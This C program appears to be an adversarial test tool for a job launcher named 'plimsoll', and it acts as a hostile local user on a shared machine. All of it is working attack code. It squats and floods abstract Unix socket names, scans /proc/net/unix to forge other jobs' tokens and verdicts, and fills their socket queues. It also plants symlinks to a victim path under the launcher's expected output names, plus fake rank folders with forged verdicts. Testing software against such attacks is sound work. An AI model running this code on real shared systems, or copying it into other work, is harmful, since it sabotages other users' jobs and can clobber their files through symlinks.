/* Attacks of another user of the machine on jobs, until killed: attacks FOLDER VICTIM. Floods the
 * abstract sockets, forges tokens and verdicts of all visible jobs, fills the queues of sockets,
 * and plants folders and links to VICTIM in FOLDER under the names of a job's own. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

enum { FLOOD = 400, MOST_SEEN = 300, NAME = sizeof(((struct sockaddr_un *)0)->sun_path) };

/* Names of the flood: those of a launcher that does not exist. */
#define FLOODED "plimsoll-0-"

static const char *folder, *victim;

static socklen_t named(struct sockaddr_un *address, const char *name)
{
    memset(address, 0, sizeof *address);
    address->sun_family = AF_UNIX;
    size_t length = strnlen(name, NAME - 1);
    memcpy(address->sun_path + 1, name, length);
    return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length);
}

/* Holds a name until the end. */
static void hold(const char *name)
{
    struct sockaddr_un address;
    socklen_t length = named(&address, name);
    int held = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    if (held >= 0 && bind(held, (struct sockaddr *)&address, length) != 0)
        close(held);
}

/* Sends to a name until its queue is full. */
static void fill(const char *name)
{
    struct sockaddr_un address;
    socklen_t length = named(&address, name);
    int sender = socket(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    for (int i = 0; i < 1000; i++)
        if (sendto(sender, "apart", 5, 0, (struct sockaddr *)&address, length) < 0)
            break;
    if (sender >= 0)
        close(sender);
}

/* A token of another user's job, "PREFIX-RANK-PROCESS": forges further tokens of that job. */
static void forge(const char *token)
{
    char name[2 * NAME], prefix[NAME];
    snprintf(prefix, sizeof prefix, "%s", token);
    for (int dashes = 0; dashes < 2; dashes++) {
        char *dash = strrchr(prefix, '-');
        if (!dash)
            return;
        *dash = 0;
    }
    static const char *const others[] = {"0-1", "-1", "9999-1"};
    for (int i = 0; i < 3; i++) {
        snprintf(name, sizeof name, "%s-%s", prefix, others[i]);
        hold(name);
        fill(name);
    }
    static const char *const verdicts[] = {"together", "apart"};
    for (int i = 0; i < 2; i++) {
        snprintf(name, sizeof name, "%s=%s", token, verdicts[i]);
        hold(name);
    }
    fill(token);
}

static bool is_new(const char *name)
{
    static char seen[MOST_SEEN][NAME];
    static int number;
    for (int i = 0; i < number; i++)
        if (strncmp(seen[i], name, NAME - 1) == 0)
            return false;
    if (number == MOST_SEEN)
        return false;
    snprintf(seen[number++], NAME, "%s", name);
    return true;
}

static void attack_sockets(void)
{
    FILE *file = fopen("/proc/net/unix", "r");
    char line[1024];
    while (file && fgets(line, sizeof line, file)) {
        char *token = strstr(line, "@plimsoll-");
        if (!token || strchr(token, '='))
            continue;
        token[strcspn(token, "\n")] = 0;
        /* Sockets of the flood, and names that are already forged. */
        if (strncmp(token + 1, FLOODED, strlen(FLOODED)) == 0 ||
            strcmp(strrchr(token, '-'), "-1") == 0)
            continue;
        if (is_new(token + 1))
            forge(token + 1);
    }
    if (file)
        fclose(file);
}

static void plant(const char *format, const char *stem)
{
    char path[2048];
    int length = snprintf(path, sizeof path, "%s/", folder);
    snprintf(path + length, sizeof path - (size_t)length, format, stem);
    if (symlink(victim, path) != 0 && errno != EEXIST && errno != EACCES && errno != ENOENT)
        perror(path);
}

/* Folders of other nodes' ranks begin with ".plimsoll-JOB-SIZE-RANK-"; folders of spools end in
 * ".plimsoll.d". */
static void attack_files(void)
{
    DIR *entries = opendir(folder);
    struct dirent *entry;
    while (entries && (entry = readdir(entries))) {
        char stem[512], path[1024];
        snprintf(stem, sizeof stem, "%s", entry->d_name);
        char *end = strstr(stem, ".plimsoll.d");
        if (end) {
            *end = 0;
            static const char *const names[] = {
                "%s.plimsoll.txt",       "%s.plimsoll.json",      "%s.plimsoll.npz",
                "%s.plimsoll.txt.part",  "%s.plimsoll.json.part", "%s.plimsoll.d/rank0.kept",
                "%s.plimsoll.d/journal", "%s.plimsoll.d/rank1.spool"};
            for (size_t i = 0; i < sizeof names / sizeof *names; i++)
                plant(names[i], stem);
        }
        unsigned long long job;
        int size, rank;
        if (sscanf(stem, ".plimsoll-%llx-%d-%d-", &job, &size, &rank) == 3) {
            snprintf(path, sizeof path, "%s/.plimsoll-%016llx-%d-0-0000000000000000", folder, job,
                     size);
            if (mkdir(path, 0777) == 0) {
                strcat(path, "/verdict");
                if (symlink("apart", path) != 0)
                    perror(path);
            }
        }
    }
    if (entries)
        closedir(entries);
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    folder = argv[1];
    victim = argv[2];
    umask(0);
    struct rlimit files;
    getrlimit(RLIMIT_NOFILE, &files);
    files.rlim_cur = files.rlim_max;
    setrlimit(RLIMIT_NOFILE, &files);
    for (int i = 0; i < FLOOD; i++) {
        char name[NAME];
        snprintf(name, sizeof name, FLOODED "%d-0-%d", i, i);
        hold(name);
    }
    puts("ready");
    fflush(stdout);
    for (;;) {
        attack_sockets();
        attack_files();
        usleep(10 * 1000);
    }
}
